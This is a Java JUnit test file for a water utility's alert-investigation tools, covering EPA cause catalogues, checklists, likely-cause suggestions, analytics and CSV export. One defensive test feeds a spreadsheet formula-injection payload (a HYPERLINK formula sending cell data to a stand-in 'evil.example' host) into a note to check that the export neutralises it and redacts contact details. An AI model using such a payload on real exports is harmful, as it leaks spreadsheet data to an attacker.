package org.headwater.investigate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.List;
import java.util.Set;
import org.headwater.alert.Alert;
import org.headwater.alert.AlertType;
import org.headwater.alert.CauseHint;
import org.headwater.telemetry.AlarmCode;
import org.junit.jupiter.api.Test;

/** The cause catalogue, checklists, likely causes, records and analytics of EPA section 6. */
class InvestigationToolsTest {

    private static final CauseCatalogue CAUSES = CauseCatalogue.epaTable61();

    @Test
    void theCatalogueHoldsTable61WithItsValidAndInvalidCategoriesAndIsCustomisable() {
        assertThat(CAUSES.all()).hasSize(15);
        assertThat(CAUSES.require("WATER_HEATER_EXPANSION").category()).isEqualTo(CauseHint.EQUIPMENT_ISSUE);
        assertThat(CAUSES.require("WATER_HEATER_EXPANSION").valid()).isFalse();
        assertThat(CAUSES.require("VANDALISM").valid()).isTrue();

        CauseCatalogue utility = CAUSES.without("VANDALISM")
                .with(new Cause("PRV_FAILURE", CauseHint.EQUIPMENT_ISSUE, "Pressure releasing valve failure."));
        assertThat(utility.find("VANDALISM")).isEmpty();
        assertThat(utility.all().getLast().code()).isEqualTo("PRV_FAILURE");
        assertThatThrownBy(() -> utility.require("VANDALISM")).hasMessageContaining("cause: unknown cause 'VANDALISM'");
        assertThatThrownBy(() -> CAUSES.without("NOPE")).hasMessageContaining("'NOPE'");
    }

    @Test
    void checklistsFollowTable62PerAlertTypeAndAreEditable() {
        Checklists checklists = Checklists.epaDefaults();
        List<String> backflow = checklists.forType(AlertType.BACKFLOW).stream()
                .map(ChecklistItem::id)
                .toList();
        List<String> tamper = checklists.forType(AlertType.TAMPER).stream()
                .map(ChecklistItem::id)
                .toList();

        assertThat(backflow)
                .contains(
                        "OTHER_BACKFLOW_ALERTS_IN_AREA",
                        "WATER_SHUT_OFF",
                        "CROSS_CONNECTIONS",
                        "UNUSUAL_VAPORS_OR_ODORS")
                .doesNotContain("MAGNET_ON_METER");
        assertThat(tamper)
                .contains("HISTORY_OF_WATER_THEFT", "METER_BYPASSED", "MAGNET_ON_METER", "PERPETRATORS_ON_SITE")
                .doesNotContain("WATER_SHUT_OFF");
        assertThat(checklists.forType(AlertType.BACKFLOW_AND_TAMPER))
                .extracting(ChecklistItem::id)
                .contains("WATER_SHUT_OFF", "MAGNET_ON_METER");

        ChecklistItem photo =
                new ChecklistItem("PHOTO_TAKEN", InvestigationStep.INSPECT_ON_SITE, "Photo of the meter?", "utility");
        Checklists edited = checklists.with(AlertType.TAMPER, photo).without(AlertType.TAMPER, "METER_BYPASSED");
        assertThat(edited.forType(AlertType.TAMPER))
                .contains(photo)
                .extracting(ChecklistItem::id)
                .doesNotContain("METER_BYPASSED");
        assertThat(checklists.forType(AlertType.TAMPER))
                .extracting(ChecklistItem::id)
                .contains("METER_BYPASSED");
    }

    @Test
    void likelyCausesExplainEachSuggestionWithItsGuideSource() {
        LikelyCauses likely = new LikelyCauses(CAUSES);
        Alert reversed =
                Alerts.alert(AlertType.REVERSED_METER, "M1", "Z1", Alerts.T, "reversed", 1, CauseHint.EMPLOYEE_ERROR);

        List<LikelyCause> suggested = likely.suggest(reversed, new EvidenceFacts(Set.of(), true, true, 0, 0, false));

        assertThat(suggested.getFirst().cause().code()).isEqualTo("METER_INSTALLED_BACKWARDS");
        assertThat(suggested.getFirst().reasons())
                .hasSizeGreaterThanOrEqualTo(2)
                .anySatisfy(r -> assertThat(r.source()).contains("recent meter installation"));
        assertThat(suggested).extracting(c -> c.cause().code()).contains("WATER_THEFT");
    }

    @Test
    void backflowAtOtherMetersOrPressureEventsInTheZoneSuggestADistributionSystemCause() {
        LikelyCauses likely = new LikelyCauses(CAUSES.without("OPERATIONAL_CHANGE"));

        List<LikelyCause> suggested = likely.suggest(
                Alerts.alert(AlertType.BACKFLOW),
                new EvidenceFacts(Set.of(AlarmCode.REVERSE_FLOW), false, false, 3, 1, false));

        assertThat(suggested).extracting(c -> c.cause().code()).containsExactly("SYSTEM_ACTIVITY");
        assertThat(suggested.getFirst().reasons().getFirst().why())
                .isEqualTo("3 other meters with backflow alerts and 1 pressure alert in zone Z1");
        assertThat(likely.suggest(Alerts.alert(AlertType.BACKFLOW), EvidenceFacts.none()))
                .isEmpty();
    }

    @Test
    void analyticsOfASmallRecordCountFrequencyDelayStaffTimeCausesAndInvalidRates() {
        Instant may = Instant.parse("2024-05-31T23:30:00Z");
        Instant june = Instant.parse("2024-06-10T08:00:00Z");
        Investigation invalid = closed(
                Alerts.alert(AlertType.BACKFLOW, "M1", "Z1", may, "backflow", 1, null),
                "i1",
                Duration.ofMinutes(2),
                Duration.ofMinutes(20),
                "SENSOR_MALFUNCTION");
        Investigation theft = closed(
                Alerts.alert(AlertType.TAMPER, "M2", "Z1", june, "tamper", 1, null),
                "i2",
                Duration.ofMinutes(4),
                Duration.ofMinutes(40),
                "WATER_THEFT");
        Investigation invalidV2 = closed(
                Alerts.alert(AlertType.BACKFLOW, "M3", "Z2", june, "backflow", 2, null),
                "i3",
                Duration.ofMinutes(6),
                Duration.ofMinutes(60),
                "ALGORITHM_ERROR");
        Investigation running = Investigation.open(
                "i4",
                InvestigatedAlert.of(Alerts.alert(AlertType.BACKFLOW, "M4", "Z2", june, "backflow", 1, null)),
                june);

        InvestigationAnalytics a =
                InvestigationAnalytics.of(List.of(invalid, theft, invalidV2, running), ZoneId.of("America/New_York"));

        assertThat(a.byType()).containsEntry(AlertType.BACKFLOW, 3L).containsEntry(AlertType.TAMPER, 1L);
        assertThat(a.byZone()).containsEntry("Z1", 2L).containsEntry("Z2", 2L);
        // 23:30 UTC on 31 May is still May in New York; the utility's month counts
        assertThat(a.byMonth()).containsEntry(YearMonth.of(2024, 5), 1L).containsEntry(YearMonth.of(2024, 6), 3L);
        assertThat(a.averageDelayToStart()).hasValue(Duration.ofMinutes(4));
        assertThat(a.totalStaffTime()).isEqualTo(Duration.ofMinutes(18 + 36 + 54));
        assertThat(a.causes()).containsOnlyKeys("SENSOR_MALFUNCTION", "WATER_THEFT", "ALGORITHM_ERROR");
        assertThat(a.invalidRates())
                .containsExactly(
                        new InvestigationAnalytics.InvalidRate("backflow", 1, 1, 1),
                        new InvestigationAnalytics.InvalidRate("backflow", 2, 1, 1),
                        new InvestigationAnalytics.InvalidRate("tamper", 1, 1, 0));
    }

    @Test
    void recordsFollowFigure62AndQuoteCsvFields() {
        Investigation i = closed(
                Alerts.alert(AlertType.BACKFLOW),
                "i1",
                Duration.ofMinutes(1),
                Duration.ofMinutes(15),
                "SENSOR_MALFUNCTION");
        InvestigationRecord record = InvestigationRecord.of(i);

        assertThat(record.investigator()).isEqualTo("jean");
        assertThat(record.location()).isEqualTo("M1 (Z1)");
        assertThat(record.csvRow())
                .isEqualTo(
                        "i1,2024-06-02T10:00:00Z,M1 (Z1),BACKFLOW,jean,2024-06-02T10:01:00Z,"
                                + "2024-06-02T10:15:00Z,Invalid alert: EQUIPMENT_ISSUE (SENSOR_MALFUNCTION),\"Meter replaced, see WO \"\"AM 1\"\"\"");
    }

    @Test
    void exportedNotesCannotRunAsASpreadsheetFormulaAndCarryNoEmailOrPhoneNumber() {
        Alert alert = Alerts.alert(AlertType.BACKFLOW);
        Instant t = alert.time();
        Investigation i = Investigation.open("i2", InvestigatedAlert.of(alert), t)
                .acknowledge("jean", t)
                .dataReviewed(t)
                .close(
                        CAUSES.require("SENSOR_MALFUNCTION"),
                        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\") call ada@example.org or 0151 496 0123",
                        "jean",
                        t.plus(Duration.ofMinutes(5)));

        String row = InvestigationRecord.of(i).csvRow();

        assertThat(row)
                .endsWith(
                        ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"details\"\") call [email] or [phone]\"")
                .doesNotContain("ada@example.org")
                .doesNotContain("496 0123");
    }

    private static Investigation closed(Alert alert, String id, Duration delay, Duration end, String cause) {
        Instant t = alert.time();
        Cause closing = CAUSES.require(cause);
        Investigation reviewed = Investigation.open(id, InvestigatedAlert.of(alert), t)
                .acknowledge("jean", t.plus(delay))
                .dataReviewed(t.plus(delay));
        // figure 6-1: an invalid cause closes at step 3, a valid one after step 4 rules contamination out
        Investigation deciding = closing.valid() ? reviewed.notShownInvalid(t.plus(delay)) : reviewed;
        return deciding.close(closing, "Meter replaced, see WO \"AM 1\"", "jean", t.plus(end));
    }
}
